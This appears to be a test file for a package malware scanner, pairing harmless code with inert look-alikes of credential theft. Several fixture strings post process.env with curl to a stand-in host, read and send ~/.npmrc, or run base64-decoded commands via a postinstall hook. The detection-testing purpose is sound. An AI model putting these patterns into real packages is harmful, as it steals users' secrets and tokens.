/** What real packages do for good reasons (the third set of docs/accuracy.md), each with the act it looks like. Inert. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scanOf, threatsOf } from './testing/scan-of.ts';

interface Pair {
  readonly rule: string;
  readonly left: string;
  readonly found: readonly string[];
}

const cp = "const cp = require('child_process');";
/** What makes the scanner read the tree. */
const decodes = 'const decoded = atob(given);';
const address = 'https://c.example/a';

const pairs: Readonly<Record<string, Pair>> = {
  'the environment that a program is started with': {
    rule: 'malware/exfiltrate-environment',
    left: `${cp} cp.spawn('wget', [url], { env: process.env, stdio: 'inherit' }); cp.spawn('curl', [url], { env: { ...process.env, A: '1' } });`,
    found: [
      `${cp} cp.spawn('curl', ['-d', JSON.stringify(process.env), url], { env: process.env });`,
      `${cp} cp.exec('curl -d "$ALL" ${address}', { env: { ALL: JSON.stringify(process.env) } });`,
      `${cp} cp.exec('curl -d "$ALL" ${address}', { env: { ...process.env, ALL: JSON.stringify(process.env) } });`,
      `${cp} cp.exec('curl -d @- ${address}', { input: JSON.stringify(process.env), env: process.env });`,
    ],
  },
  'a list that is handed to code which was made before': {
    rule: 'malware/data-to-code',
    left: `new Function('list', 'exports', code())(require('./list.json'), exports);`,
    found: [
      `new Function(require('./list.json').code)();`,
      `new Function('text', 'eval(text)')(require('./list.json').code);`,
      `const make = Function; make('list', require('./list.json')[0])();`,
    ],
  },
  'an address of the same host, or of the one it is part of': {
    rule: 'malware/hidden-address',
    left: `${decodes} const api = 'https://api.c.example'; fetch(api.replace('api.c.example', 'c.example') + '/tree');`,
    found: [
      `${decodes} fetch('https://cXX.example/a'.replace('XX', ''));`,
      `${decodes} fetch('https://good.example/a'.replace('good', 'bad'));`,
      `${decodes} fetch('xttps://c.example/a'.replace('x', 'h'));`,
    ],
  },
  'a text that a function only quotes': {
    rule: 'malware/decoded-command',
    left: `${cp} const escape = (s) => s.replace('"', '#'); function open(to) { cp.exec('xdg-open ' + escape(to)); } open('${address}');`,
    found: [
      `${cp} const plain = (s) => s.replace('#', 'o'); cp.exec(plain('ech# this is not what stood there'));`,
      `${cp} cp.exec(Buffer.from('ZWNobyBoZWxsbyB3b3JsZA==', 'base64').toString());`,
    ],
  },
  'what a callback is bound to': {
    rule: 'malware/exfiltrate-credentials',
    left: `const https = require('https'); const fs = require('fs');
      function C() { this.file = fs.readFileSync(home + '/.npmrc'); https.request(url, function (answer) { show(answer); }.bind(this)); }`,
    found: [
      `const https = require('https'); const fs = require('fs');
      function C() { this.file = fs.readFileSync(home + '/.npmrc'); const r = https.request(url); r.end(this.file); }`,
      `const https = require('https'); const fs = require('fs'); const file = fs.readFileSync(home + '/.npmrc');
      (function (data) { https.request(url).end(data); }).bind(null, file)();`,
    ],
  },
};

for (const [what, { rule, left, found }] of Object.entries(pairs)) {
  test(`${what}: no ${rule}`, () => assert.ok(!threatsOf(scanOf({ 'index.js': left })).includes(rule)));
  for (const code of found)
    test(`${rule} is told of ${code.slice(0, 120)}`, () =>
      assert.ok(threatsOf(scanOf({ 'index.js': code, 'list.json': '["a b"]' })).includes(rule)));
}

/** Too large to be parsed: its words alone are looked at. */
const large = (code: string): string => `${code}\n// ${'x'.repeat(90)}\n`.padEnd(500_000, 'y ');
const sends = "const dns = require('dns'); dns.resolve(it);";
const near = 'malware/environment-near-network';
for (const code of [
  `import p from 'node:process'; show(p.platform, p.env.CI); ${sends}`,
  `const p$1 = require('process'); show(p$1.argv); ${sends}`,
  `const color = 'NO_COLOR' in process.env || !('CI' in process.env); ${sends}`,
])
  test(`a large file that asks for single variables: ${code.slice(0, 70)}`, () =>
    assert.ok(!threatsOf(scanOf({ 'index.js': large(code) })).includes(near)));
for (const code of [
  `import p from 'node:process'; const it = JSON.stringify(p.env); ${sends}`,
  `import p from 'node:process'; const q = p; ${sends}`,
  `import * as p from 'process'; const { env } = p; ${sends}`,
  `import { env } from 'process'; ${sends}`,
  `const p$1 = require('process'); const it = p$1['env']; ${sends}`,
  `for (const k in process.env) it += k; ${sends}`,
])
  test(`a large file that takes all of them is told of: ${code.slice(0, 70)}`, () =>
    assert.ok(threatsOf(scanOf({ 'index.js': large(code) })).includes(near)));

/** Parsed, and too long to be looked at whole. */
const bundle = (code: string): string => `${code}\nconst rest = '${'y '.repeat(30_000)}';\n`;
const keeps = 'class A { constructor() { this.all = process.env; } one(name) { return this.all[name]; } }';
const tells =
  'class B { constructor(a) { this.a = a; } go() { fetch(url, { body: JSON.stringify(this.a) }); } }';
const exfiltration = 'malware/exfiltrate-environment';
for (const [what, code] of [
  ['another class of a bundle', `${keeps} ${tells} new B(1).go(new A().one('CI'));`],
  [
    'a class of the same inner name',
    `const A = ${keeps.replace('class A', 'class e')}; const B = ${tells.replace('class B', 'class e')}; new B(1); new A();`,
  ],
  [
    'whether a variable is there',
    `${keeps} const is = 'CI' in process.env; fetch(url, { body: JSON.stringify({ is }) });`,
  ],
] as const)
  test(`${what}: no ${exfiltration}`, () =>
    assert.ok(!threatsOf(scanOf({ 'index.js': bundle(code) })).includes(exfiltration)));
for (const code of [
  keeps.replace('one(name)', 'go() { fetch(url, { body: JSON.stringify(this.all) }); } one(name)'),
  `${keeps} class B extends A { go() { fetch(url, { body: JSON.stringify(this.all) }); } } new B().go();`,
  `${keeps} const C = A; class B extends C { go() { fetch(url, { body: JSON.stringify(this.all) }); } } new B().go();`,
  `${keeps} class B { go() { fetch(url, { body: JSON.stringify(this.all) }); } } Object.setPrototypeOf(B.prototype, A.prototype);`,
  `${keeps} ${tells} new B(new A()).go();`,
  `${keeps} const a = new A(); ${tells} new B(a.all).go();`,
  `${keeps} fetch(url, { body: JSON.stringify(new A()) });`,
])
  test(`${exfiltration} is told of a bundle with ${code.slice(keeps.length - 30, keeps.length + 90)}`, () =>
    assert.ok(threatsOf(scanOf({ 'index.js': bundle(code) })).includes(exfiltration)));

const severityOf = (rule: string, code: string): string | undefined =>
  scanOf({ 'index.js': large(code) }).findings.find((found) => found.rule === rule)?.severity;
const gap = `\n// ${'z '.repeat(3000)}\n`;
const asks = "const https = require('https'); https.get(registry + '/-/whoami');";
test('words far apart in a file that is not parsed count as in one that is', () => {
  const survey = 'malware/token-survey';
  assert.equal(severityOf(survey, `${asks} read('.npmrc');`), 'high');
  assert.equal(severityOf(survey, `${asks}${gap.slice(0, 1500)} read('.npmrc');`), 'high');
  assert.equal(severityOf(survey, `${'//\n'.repeat(300)}${asks}${gap} read('.npmrc');`), 'medium');
  // What is bad by itself does not become less so.
  const upload = `fetch('https://api.github.com/user/repos', {});${gap.slice(0, 3000)} send(JSON.stringify(process.env));`;
  assert.equal(severityOf('malware/upload-to-repository', upload), 'high');
});
test('the archive of a repository is fetched, and not uploaded', () => {
  const code = (path: string): string =>
    `const at = 'https://api.github.com/repos/a/b/${path}'; fetch(at); spawn('a', { env: { ...process.env } });`;
  assert.equal(severityOf('malware/upload-to-repository', code('tarball/latest')), undefined);
  for (const path of ['contents/a', 'git/blobs', 'releases', "tarball'.replace('tarball', 'contents') + '"])
    assert.equal(severityOf('malware/upload-to-repository', code(path)), 'high');
});
test('whoami of a registry is no name of the machine, the program is', () => {
  const rule = 'malware/identity-near-network';
  assert.equal(severityOf(rule, asks), undefined);
  assert.equal(severityOf(rule, `${asks} exec('whoami');`), 'medium');
});
test('a theft split over files that an install script reaches is refused, however much lies between', () => {
  const report = scanOf(
    {
      'a.js': bundle("require('./b'); require('./c');"),
      'b.js': bundle("require('./d');"),
      'c.js': bundle("exports.read = () => require('fs').readFileSync(home + '/.npmrc');"),
      'd.js': bundle("exports.send = (it) => fetch(url, { method: 'POST', body: it });"),
    },
    { scripts: { postinstall: 'node a.js' } },
  );
  assert.ok((report.score?.value ?? 0) >= 7);
});
